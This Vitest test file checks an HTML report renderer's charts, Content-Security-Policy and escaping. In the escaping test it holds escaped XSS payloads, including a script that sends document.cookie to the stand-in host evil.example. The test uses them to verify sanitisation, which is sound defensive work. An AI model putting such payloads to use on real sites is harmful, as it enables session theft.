import { describe, expect, it } from "vitest";
import { rewardHistogram } from "../../report/charts.js";
import { compareResults } from "../../report/compare.js";
import { HTML_REPORT_CSP, renderHtmlReport, trendPoints } from "../../report/html.js";
import { buildResults } from "./build-results.js";
import { hostileComparison, trendFixture } from "./html-fixture.js";

/** The markup of one chart, by its id. */
function svgById(html: string, id: string): string {
  const start = html.indexOf(`<svg id="${id}"`);
  expect(start, `chart ${id}`).toBeGreaterThanOrEqual(0);
  return html.slice(start, html.indexOf("</svg>", start) + "</svg>".length);
}

function count(text: string, pattern: RegExp): number {
  return text.match(new RegExp(pattern.source, "g"))?.length ?? 0;
}

describe("renderHtmlReport", () => {
  it("renders a trend page with three charts", async () => {
    const { comparison, history } = trendFixture();
    const html = renderHtmlReport({ title: "repogym — acme/calc", comparison, history });
    await expect(html).toMatchFileSnapshot("__snapshots__/report-trend.html");

    const trend = svgById(html, "chart-reward-over-commits");
    // Six runs (five from history, then this one); the all-infra-errors run has no point.
    expect(count(trend, /<circle class="point/)).toBe(5);
    expect(count(trend, /<circle class="point current"/)).toBe(1);
    expect(trend).toContain('data-points="5"');
    const commits = [...trend.matchAll(/<circle class="point[^"]*"[^>]*data-commit="([0-9a-f]{7})"/g)].map(
      (m) => m[1],
    );
    expect(commits).toEqual(["1111111", "2222222", "4444444", "bbbbbbb", "ccccccc"]);

    const distribution = svgById(html, "chart-reward-distribution");
    expect(count(distribution, /<rect class="bar"/)).toBe(10);
    expect(count(distribution, /<line class="base-mark"/)).toBe(10);
    const counts = [...distribution.matchAll(/<rect class="bar"[^>]*data-count="(\d+)"/g)].map((m) =>
      Number(m[1]),
    );
    expect(counts.reduce((a, b) => a + b, 0)).toBe(comparison.summary.rewarded);

    const mix = svgById(html, "chart-difficulty-mix");
    expect(count(mix, /<g class="bucket"/)).toBe(4);
    const scenarios = [...mix.matchAll(/<g class="bucket" data-bucket="[^"]+" data-scenarios="(\d+)"/g)].map(
      (m) => Number(m[1]),
    );
    expect(scenarios.reduce((a, b) => a + b, 0)).toBe(comparison.current.scenarios.length);
    for (const id of ["chart-reward-over-commits", "chart-reward-distribution", "chart-difficulty-mix"]) {
      expect(svgById(html, id)).toMatch(/role="img" aria-label="[^"]+"/);
    }
  });

  it("cannot load anything: a CSP meta first in head, no scripts, no remote URLs", () => {
    const { comparison, history } = trendFixture();
    const html = renderHtmlReport({ comparison, history });
    const head = html.slice(html.indexOf("<head>"), html.indexOf("</head>"));
    expect(head.indexOf(`<meta http-equiv="Content-Security-Policy" content="${HTML_REPORT_CSP}">`)).toBe(
      head.indexOf("<meta charset") + '<meta charset="utf-8">\n'.length,
    );
    expect(html).not.toMatch(/<script|<iframe|<object|<embed|<base|<form|@import|url\(/i);
    const urls = html.match(/\b(?:src|href|action|xlink:href)=("[^"]*"|'[^']*'|[^\s>]+)/gi) ?? [];
    expect(urls).toEqual(['href="data:,"']);
  });

  it("escapes everything from results: no tag, attribute or script gets through", () => {
    const html = renderHtmlReport({ title: "<b>title</b>", comparison: hostileComparison(), history: [] });
    expect(html).not.toMatch(/<img|<script|<svg onload|<b>title|<\/td><\/tr><\/table><script/i);
    expect(html).toContain("&lt;img src=x onerror=alert(1)&gt;");
    expect(html).toContain(
      "&lt;script&gt;fetch(&#39;https://evil.example/&#39;+document.cookie)&lt;/script&gt;",
    );
    expect(html).toContain("<title>&lt;b&gt;title&lt;/b&gt;</title>");
    // Every tag in the page is one the renderer writes.
    const tags = new Set([...html.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9-]*)/g)].map((m) => m[1]!.toLowerCase()));
    const own =
      "html head meta link title style body header h1 h2 h3 p section div span figure figcaption svg line text polyline circle rect g table thead tbody tr th td code details summary footer";
    for (const tag of tags) expect(own.split(" "), tag).toContain(tag);
  });

  it("puts the current run in the trend once, even when the history holds it too", () => {
    const { comparison, history } = trendFixture();
    const points = trendPoints(comparison, [...history, comparison.current, comparison.current]);
    expect(points.filter((p) => p.current)).toHaveLength(1);
    expect(points.map((p) => p.created_at)).toEqual([...points.map((p) => p.created_at)].sort());
    expect(points.at(-1)?.current).toBe(true);
  });

  it("draws a lone run and a run without rewards without breaking", () => {
    const lone = buildResults({
      run_id: "r",
      commit: "a",
      scenarios: [{ id: "acme__calc-0a0a0a0a0a", rewards: [null] }],
    });
    const html = renderHtmlReport({ comparison: compareResults(lone, null), history: [] });
    expect(count(svgById(html, "chart-reward-over-commits"), /<circle class="point/)).toBe(0);
    expect(html).toContain("no rewarded runs yet");
    expect(count(svgById(html, "chart-reward-distribution"), /<rect class="bar"/)).toBe(10);
    expect(html).not.toContain("NaN");
    expect(html).not.toContain("Infinity");
  });

  it("bins rewards in tenths, with 1.0 in the last bin and 0.3 in its own", () => {
    expect(rewardHistogram([0, 0.05, 0.1, 0.3, 0.7, 0.99, 1, 1])).toEqual([2, 1, 0, 1, 0, 0, 0, 1, 0, 3]);
    expect(rewardHistogram([0.1 + 0.2])).toEqual([0, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
  });
});
